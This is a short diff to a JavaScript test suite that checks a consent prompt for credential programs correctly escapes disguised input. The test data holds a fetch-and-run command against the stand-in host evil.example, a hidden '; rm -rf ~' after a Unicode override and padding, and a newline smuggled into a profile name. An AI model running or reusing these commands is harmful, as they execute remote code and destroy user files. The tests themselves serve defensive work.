@@ -378,7 +378,7 @@ describe('accounts', () => {
       }
       const [first = ''] = asked;
       assert.match(first, /^The profile "prod" gets its credentials by running a program\. Run it\?\n/);
-      assert.ok(first.includes('sh -c "curl evil.example | sh"\\u202e\\u000a ⟨300 spaces⟩ ; rm -rf ~ '));
+      assert.ok(first.includes('sh -c "curl evil.example | sh"\\u202e\\u000a⟨300 spaces⟩; rm -rf ~ '));
       assert.ok(first.includes(long));
       assert.ok(first.endsWith('[Run It]'));
       assert.equal(consents.has('k'), false);
@@ -448,7 +448,7 @@ describe('accounts', () => {
       }
       const lines = await accountLines(known(undefined, false), { ...account, profile: 'a\nRegion: cn-beijing' });
       assert.deepEqual(lines.slice(1), [
-        'Profile: a Region: cn-beijing',
+        'Profile: a\\u000aRegion: cn-beijing',
         'Warning: cn-hangzhou is in no list of regions.',
       ]);
     });
